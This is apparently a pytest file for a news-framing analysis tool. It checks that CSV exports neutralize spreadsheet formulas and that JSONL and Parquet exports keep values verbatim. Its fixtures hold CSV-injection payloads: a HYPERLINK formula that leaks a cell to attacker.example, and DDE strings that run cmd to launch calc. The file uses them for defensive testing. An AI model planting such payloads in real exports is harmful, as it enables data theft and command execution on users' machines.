"""Exports of stored results: CSV formula neutralization, JSONL, Parquet, one row per document/segment/match."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from framing.store.batch import RunOptions, run_batch
from framing.store.readback import export_results, iter_frames, results_frame
from framing.present.cli import main
from framing.detect.lexicon import load_lexicon
from framing.store.db import open_store

#: Text a spreadsheet would execute: every cell starting like this must be neutralized in CSV.
FORMULA_STARTS = ("=", "+", "-", "@")

HOSTILE_OUTLET = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for sources")'
HOSTILE_CATALOG = [("hostile.txt", HOSTILE_OUTLET, "+cmd|' /C calc'!A0"),
                   ("minus.txt", "-2+3 Media", "@SUM(1+1)*cmd|' /C calc'!A0"),
                   ("plain.txt", "Daily Ledger", "western_press")]
HOSTILE_TEXTS = {
    "hostile.txt": ("=HYPERLINK(\"http://attacker.example\",\"Read more\") is how the puppet regime's "
                    "so-called experts spread hysterical propaganda, officials said.\n\n"
                    "@SUM(A1:A9) The brutal regime denied the report."),
    "minus.txt": ("-1+2 is what critics called the sham referendum in Donetsk.\n\n"
                  "+44 20 7946 0000 was the number given by the ministry for the heroic volunteers."),
    "plain.txt": ("Officials in Seoul said the missile test was reportedly linked to the joint exercise, "
                  "according to Yonhap."),
}


@pytest.fixture
def hostile(tmp_path):
    """A folder whose catalog and texts start cells with =, +, - and @; scored into a store."""
    d = tmp_path / "hostile"
    d.mkdir()
    for name, text in HOSTILE_TEXTS.items():
        (d / name).write_text(text + "\n", encoding="utf-8")
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["file", "outlet", "stance"])
    w.writerows(HOSTILE_CATALOG)
    (d / "catalog.csv").write_text(buf.getvalue(), encoding="utf-8")
    store = tmp_path / "s.sqlite"
    summary = run_batch(RunOptions(paths=[str(d)], store=str(store), jobs=1))
    assert summary.scored == 3
    return d, store, summary


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_neutral(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), f"live formula cell: {cell!r}"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("level", ["segment", "document", "match", "stance", "outlet"])
def test_csv_export_neutralizes_formulas(hostile, tmp_path, level):
    d, store, summary = hostile
    out = tmp_path / f"{level}.csv"
    entries = load_lexicon().entries_frame() if level == "match" else None
    with open_store(store) as st:
        n = export_results(st, summary.lexicon_version, "csv", out, level, summary.run_id, entries)
    rows = _cells(out.read_text(encoding="utf-8"))
    assert len(rows) == n + 1 and n > 0
    _assert_neutral(rows)
    flat = [c for r in rows for c in r]
    if level in ("segment", "document", "match", "outlet"):
        col = rows[0].index("outlets" if level == "document" else "outlet")
        outlets = {r[col] for r in rows[1:]}
        assert "'" + HOSTILE_OUTLET in outlets or any(o.startswith("'=HYPERLINK") for o in outlets)
    if level == "stance":
        assert "'+cmd|' /C calc'!A0" in flat
    if level in ("segment", "stance"):
        # The extreme-sentiment sentence of the hostile body starts with a formula.
        assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") or c.startswith("'-1+2") for c in flat)
    assert not list(tmp_path.glob("*.partial"))


def test_cli_csv_to_stdout_and_file_are_neutralized(hostile, tmp_path, capsys):
    d, store, _ = hostile
    assert main(["score", str(d), "--store", str(store), "--by", "document", "--format", "csv", "--quiet"]) == 0
    _assert_neutral(_cells(capsys.readouterr().out))
    out = tmp_path / "m.csv"
    assert main(["score", str(d), "--store", str(store), "--level", "match", "--out", str(out), "--quiet"]) == 0
    _assert_neutral(_cells(out.read_text(encoding="utf-8")))
    # The in-memory path neutralizes the same way.
    assert main(["score", str(d), "--no-store", "--by", "outlet", "--format", "csv"]) == 0
    rows = _cells(capsys.readouterr().out)
    _assert_neutral(rows)
    assert any(c.startswith("'=HYPERLINK") for r in rows for c in r)


def test_jsonl_and_parquet_keep_values_verbatim(hostile, tmp_path):
    d, store, summary = hostile
    with open_store(store) as st:
        ref = results_frame(st, summary.lexicon_version, "segment", summary.run_id)
        export_results(st, summary.lexicon_version, "jsonl", tmp_path / "s.jsonl", "segment", summary.run_id)
        export_results(st, summary.lexicon_version, "parquet", tmp_path / "s.parquet", "segment", summary.run_id)
    records = [json.loads(line) for line in (tmp_path / "s.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [r["seg_id"] for r in records] == list(ref["seg_id"])
    # Not a spreadsheet format: text is kept as written.
    assert HOSTILE_OUTLET in {r["outlet"] for r in records}
    pq = pd.read_parquet(tmp_path / "s.parquet")
    pd.testing.assert_frame_equal(pq, ref, check_dtype=False)


@pytest.mark.parametrize("level", ["segment", "document", "match"])
def test_one_row_per_level(hostile, level):
    d, store, summary = hostile
    with open_store(store) as st:
        df = results_frame(st, summary.lexicon_version, level, summary.run_id, load_lexicon().entries_frame())
        if level == "document":
            assert sorted(df["doc_id"]) == ["hostile", "minus", "plain"]
        elif level == "segment":
            assert df["seg_id"].is_unique and set(df["doc_id"]) == {"hostile", "minus", "plain"}
        else:
            n = st.conn.execute("SELECT count(*) FROM matches").fetchone()[0]
            assert len(df) == n > 0 and {"text", "category", "voice", "rationale"} <= set(df.columns)


def test_frames_cut_between_documents_concatenate_to_the_whole(tmp_path):
    store = tmp_path / "s.sqlite"
    summary = run_batch(RunOptions(store=str(store), jobs=1))   # the seeds
    with open_store(store) as st:
        for level in ("segment", "document", "match"):
            whole = results_frame(st, summary.lexicon_version, level, summary.run_id)
            parts = list(iter_frames(st, summary.lexicon_version, level, summary.run_id, rows_per_frame=2))
            assert len(parts) > 1
            pd.testing.assert_frame_equal(pd.concat(parts, ignore_index=True), whole)


def test_parquet_needs_a_file(capsys):
    assert main(["score", "--no-store", "--format", "parquet"]) == 1
    assert "--out FILE.parquet" in capsys.readouterr().err


def test_a_failed_export_leaves_the_previous_file_and_no_partial(hostile, tmp_path, monkeypatch):
    """Every export goes through framing.core.files.atomic_path: all of the new file or none of it."""
    import framing.store.readback as readback
    from framing.core.export import write_frame
    _, store_path, summary = hostile
    out = tmp_path / "out" / "segments.csv"
    with open_store(store_path) as st:
        n = export_results(st, summary.lexicon_version, "csv", out)
    good = out.read_text(encoding="utf-8")
    assert n == len(_cells(good)) - 1 and "Daily Ledger" in good

    def broken(*a, **k):  # the second frame fails half-way through the file
        yield pd.DataFrame({"doc_id": ["plain"], "seg_id": ["s1"]})
        raise RuntimeError("disk pulled")
    monkeypatch.setattr(readback, "iter_frames", broken)
    with open_store(store_path) as st, pytest.raises(RuntimeError, match="disk pulled"):
        export_results(st, summary.lexicon_version, "csv", out)
    assert out.read_text(encoding="utf-8") == good
    assert sorted(p.name for p in out.parent.iterdir()) == ["segments.csv"]

    with pytest.raises(ValueError):  # an unknown format fails before anything is written
        write_frame(pd.DataFrame({"a": [1]}), "xml", out)
    assert out.read_text(encoding="utf-8") == good
    assert sorted(p.name for p in out.parent.iterdir()) == ["segments.csv"]


# ------------------------------------------------------------------ the screen table without pandas

def _cell(rng, kind):
    if kind == "text":
        return rng.choice(["", "a", "kyiv regime [name_calling, quoted] x3", "x" * 75, "tab\there", "two\nlines",
                           "=1+1", " lead", "trail ", "Киев", "日本語" * 4, "…"])
    if kind == "int":
        return rng.choice([0, 1, -5, 123456, 7, 939])
    if kind == "float":
        return rng.choice([0.0, 1.0, -0.1592, 416.667, 0.5, 12.25, 3.0, 0.001, 999999.5, -0.0])
    if kind == "float_or_none":
        return None if rng.random() < 0.3 else rng.choice([0.0, 0.2023, -1.0, 0.0004])
    if kind == "int_or_float":
        return rng.choice([1, 2.5, 0, 3.0])
    if kind == "int_or_none":
        return None if rng.random() < 0.3 else rng.choice([3, 40])
    return None


@pytest.mark.parametrize("seed", range(4))
def test_render_rows_prints_what_pandas_prints(seed):
    """The plain-Python screen table (an unchanged re-run prints it without importing pandas) is pandas' text."""
    import random
    from framing.core.export import render_frame, render_rows
    rng = random.Random(seed)
    kinds = ["text", "int", "float", "float_or_none", "int_or_float", "int_or_none", "none"]
    compared = 0
    for _ in range(150):
        cols = rng.sample(kinds, rng.randint(1, 5))
        names = [rng.choice(["doc_id", "tokens", "sentiment_mean", "x"]) + str(i) for i in range(len(cols))]
        shown, hidden = rng.randint(1, 8), rng.randint(0, 3)
        rows = [tuple(_cell(rng, k) for k in cols) for _ in range(shown + hidden)]
        frame = pd.DataFrame([dict(zip(names, r)) for r in rows])
        got = render_rows(names, rows[:shown], infer_rows=rows[shown:])
        assert got is not None, cols
        assert got == render_frame(frame.head(shown), "table"), rows
        compared += 1
    assert compared == 150


def test_render_rows_leaves_to_pandas_what_it_does_not_reproduce():
    from framing.core.export import render_rows
    assert render_rows(["a"], [(True,)]) is None            # bools
    assert render_rows(["a"], [("x",), (None,)]) is None    # text with missing values (pandas 2 and 3 differ)
    assert render_rows(["a"], [(1e-9,)]) is None            # scientific notation
    assert render_rows(["a"], [(float("inf"),)]) is None
    assert render_rows(["a"], []) == "(no rows)"
